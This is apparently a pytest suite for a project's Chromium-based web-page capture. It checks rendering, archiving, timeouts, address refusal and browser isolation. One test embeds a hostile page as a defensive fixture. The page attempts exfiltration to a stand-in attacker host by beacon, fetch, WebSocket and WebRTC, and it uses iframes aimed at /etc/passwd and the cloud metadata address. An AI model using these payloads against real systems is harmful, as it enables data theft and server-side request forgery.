"""Captures in Chromium: what a page becomes, and what a hostile one cannot do."""

import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.core.cache import cache
from django.utils import timezone
from warcio.archiveiterator import ArchiveIterator

from factcheck.history import acting
from factcheck.runtime.children import wait_until
from sources import browsers, pipeline
from sources.capture import chromium, store
from sources.models import Ingestion, IngestionState
from sources.requests import request_capture
from sources.showing import address_of_view
from tests.sources.local_site import LocalSite, answer, redirect
from tests.web.conftest import sign_in

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True, databases=["default", "owner"])]
WORDS = "The council published the sheets of every polling station, and both counts agree on the result. " * 8
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63fccfc0500f00048101807a3a9b2d0000000049454e44ae426082"
)


@pytest.fixture(autouse=True)
def _browser(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Chromium in its sandbox; on a machine that has none, these tests (and nothing else) run their own pages without."""
    browsers._tried.clear()
    cache.delete(browsers.TOLD)
    if chromium.why_not():
        monkeypatch.setattr(chromium, "QUIET", (*chromium.QUIET, "--no-sandbox"))
    yield
    browsers._tried.clear()
    cache.delete(browsers.TOLD)


def captured(address: str, person: Any) -> Ingestion:
    with acting(person, "asked for a capture"):
        job = request_capture(address, person, method="browser")
    assert pipeline.work_once("tests", browser=True)
    job.refresh_from_db()
    return job


def left_over() -> list[str]:
    """Browsers of captures that do not end; those of another worker of the suite do, in a while."""
    wait_until(lambda: not _captures(), 60, every=0.5)
    return _captures()


def _captures() -> list[str]:
    found = []
    for process in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            line = process.read_bytes()
        except OSError:
            continue
        if b"fc-browser-" in line:
            found.append(line.decode(errors="replace"))
    return found


def test_a_page_made_by_scripts_is_kept_with_all_it_loads_and_a_picture(
    desk: LocalSite, author: Any, client: Any, tmp_path: Path
) -> None:
    page = b"""<!doctype html><html lang="en"><head><title>Counts</title></head><body><div id="root"></div><img src="/pixel.png">
    <div style="height:3000px"></div><img loading="lazy" src="/late.png">
    <script>fetch('/words.json').then(r => r.json()).then(w => { root.innerHTML = '<article><h1>Counts</h1><p>' + w + '</p></article>' })</script>"""
    desk.routes |= {
        "/go": redirect("/app"),
        "/app": answer(page, headers={"Set-Cookie": "id=s3cr3t"}),
        "/words.json": answer(f'"{WORDS}"'.encode(), headers={"Content-Type": "application/json"}),
        "/pixel.png": answer(PIXEL, headers={"Content-Type": "image/png"}),
        "/late.png": answer(PIXEL, headers={"Content-Type": "image/png"}),
    }
    job = captured(desk.url("/go"), author)
    assert (job.state, job.reason, job.detail) == (IngestionState.DONE, "", "")
    snapshot = job.snapshots.get()
    assert (snapshot.method, snapshot.final_address, snapshot.http_status) == ("browser", desk.url("/app"), 200)
    assert "both counts agree" in snapshot.extractions.get(is_current=True).text
    with store.open_blob(snapshot.payload) as payload:
        assert WORDS.strip() in payload.read().decode()
    file = tmp_path / "a.warc.gz"
    with store.open_blob(snapshot.warc) as warc:
        file.write_bytes(warc.read())
    with file.open("rb") as opened:
        records = [
            (record.rec_type, record.rec_headers.get_header("WARC-Target-URI")) for record in ArchiveIterator(opened)
        ]
    responses = {address for kind, address in records if kind == "response"}
    assert {desk.url(path) for path in ("/go", "/app", "/words.json", "/pixel.png", "/late.png")} <= responses
    assert [address for kind, address in records if kind == "resource"] == [
        f"urn:dom:{desk.url('/app')}",
        f"urn:view:{desk.url('/app')}",
    ]
    check = subprocess.run(
        [str(Path(sys.executable).with_name("warcio")), "check", str(file)], capture_output=True, check=False
    )
    assert check.returncode == 0, check.stdout
    assert b"s3cr3t" not in b"".join(request.encode() for request in desk.requests)
    view = address_of_view(snapshot, author)
    assert "looks/?of=" in client.get(view).content.decode()
    assert client.get(address_of_view(snapshot, author, picture=True)).status_code == 200
    picture = client.get(f"{view}looks/", {"of": f"urn:view:{desk.url('/app')}"})
    assert picture["Content-Type"] == "image/png"
    assert int.from_bytes(picture.content[20:24], "big") > 3_000
    sign_in(client, author)
    assert "Picture" in client.get(f"/snapshots/{snapshot.pk}/").content.decode()
    assert left_over() == []


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A port nobody may reach, by TCP or UDP, and what came all the same."""
    tcp = socket.create_server(("127.0.0.1", 0))
    port = tcp.getsockname()[1]
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", port))
    came: list[bytes] = []

    def accepting() -> None:
        while True:
            try:
                connection, _ = tcp.accept()
            except OSError:
                return
            with connection:
                came.append(b"tcp " + connection.recv(500))

    def receiving() -> None:
        while True:
            try:
                came.append(b"udp " + udp.recv(500))
            except OSError:
                return
            if came[-1] == b"udp end":
                return

    for each in (accepting, receiving):
        threading.Thread(target=each, daemon=True).start()
    yield port, came
    tcp.shutdown(socket.SHUT_RDWR)
    tcp.close()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as last:
        last.sendto(b"end", ("127.0.0.1", port))
    udp.close()


def test_a_hostile_page_reaches_nothing_but_its_own_site(desk: LocalSite, author: Any, listener: Any) -> None:
    port, came = listener
    evil = f"127.0.0.1:{port}"
    page = f"""<!doctype html><html><head><link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="http://{evil}">
    <link rel="prefetch" href="http://{evil}/prefetch"></head><body><p>{WORDS}</p><img src="http://{evil}/img">
    <iframe src="file:///etc/passwd"></iframe><iframe src="http://169.254.169.254/"></iframe><iframe src="http://localhost:{port}/"></iframe>
    <iframe src="https://{evil}/tls"></iframe><object data="ftp://{evil}/"></object><script>
    navigator.sendBeacon('http://{evil}/beacon'); fetch('http://{evil}/fetch', {{method: 'POST', body: 'x'}}).catch(e => 0);
    try {{ new WebSocket('ws://{evil}/'); new WebSocket('wss://{evil}/') }} catch (e) {{}}
    const p = new RTCPeerConnection({{iceServers: [{{urls: ['stun:{evil}', 'turn:{evil}?transport=tcp', 'turn:{evil}'], username: 'a', credential: 'b'}}]}});
    p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o));
    window.open('http://{evil}/open'); alert('stop'); navigator.serviceWorker && navigator.serviceWorker.register('/sw.js').catch(e => 0);
    for (const scheme of ['file:///etc/passwd', 'chrome://version', 'view-source:http://{evil}/']) {{ const f = document.createElement('iframe'); f.src = scheme; document.body.append(f) }}
    </script><a id="d" href="http://{evil}/download" download>d</a><script>d.click()</script></body></html>"""
    desk.routes["/hostile"] = answer(page.encode())
    job = captured(desk.url("/hostile"), author)
    assert came == []
    assert (job.state, job.reason) == (IngestionState.DONE, "")
    with store.open_blob(job.snapshots.get().payload) as payload:
        assert "root:x:0" not in payload.read().decode()
    assert left_over() == []


def test_a_page_that_never_ends_is_ended(desk: LocalSite, author: Any, settings: Any) -> None:
    settings.CAPTURE_TOTAL = timedelta(seconds=8)
    desk.routes["/loop"] = answer(b"<p>words</p><script>while (true) {}</script>")
    job = captured(desk.url("/loop"), author)
    assert job.state != IngestionState.DONE
    assert job.reason in ("timeout", "browser")
    assert left_over() == []


def test_what_the_site_answers_decides(desk: LocalSite, author: Any, settings: Any) -> None:
    desk.routes["/pdf"] = answer(b"%PDF-1.4", headers={"Content-Type": "application/pdf"})
    desk.routes["/evil"] = redirect("http://10.0.0.1/")
    assert captured(desk.url("/missing"), author).reason == "not_found"
    assert captured(desk.url("/pdf"), author).reason in ("unsupported_type", "browser")
    assert captured(desk.url("/evil"), author).reason == "refused_address"
    settings.CAPTURE_ALLOWED_NETWORKS = []
    assert captured(desk.url("/inside"), author).reason == "refused_address"


def test_plain_workers_and_those_without_a_browser_leave_it_waiting(
    desk: LocalSite, author: Any, client: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    with acting(author):
        job = request_capture(desk.url("/a"), author, method="browser")
    assert not pipeline.work_once("tests")
    sign_in(client, author)
    assert "has reported itself" in client.get("/captures/browser/").content.decode()
    monkeypatch.setattr(chromium, "why_not", lambda: "There is no sandbox here.")
    assert browsers.why_no_browser(timezone.now()) == "There is no sandbox here."
    page = client.get("/captures/browser/").content.decode()
    assert "There is no sandbox here." in page
    assert client.post("/captures/browser/", {"address": desk.url("/b")}).status_code == 422
    assert client.get("/readyz").json()["notes"]["browser"] == "off: There is no sandbox here."
    assert Ingestion.objects.get().state == job.state == IngestionState.QUEUED
    browsers._tried.clear()
    cache.delete(browsers.TOLD)
    monkeypatch.setattr(chromium, "why_not", lambda: "")
    assert browsers.why_no_browser(timezone.now()) == ""
    assert client.get("/readyz").json()["notes"]["browser"] == "on"
    assert client.post("/captures/browser/", {"address": desk.url("/b")}).status_code == 302
    assert Ingestion.objects.filter(method="browser").count() == 2


def test_the_browser_runs_as_nobody_important_and_inherits_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET_KEY", "s3cr3t")
    with chromium.running(("about:blank",), timedelta(seconds=30)) as tools:
        tools.call("Browser.getVersion")
        seen = [
            process.parent for process in Path("/proc").glob("[0-9]*/cmdline") if b"fc-browser-" in process.read_bytes()
        ]
        assert seen
        for process in seen:
            assert b"s3cr3t" not in (process / "environ").read_bytes()
            assert os.geteuid() != 0 or process.stat().st_uid != 0 or b"zygote" in (process / "cmdline").read_bytes()
    assert left_over() == []
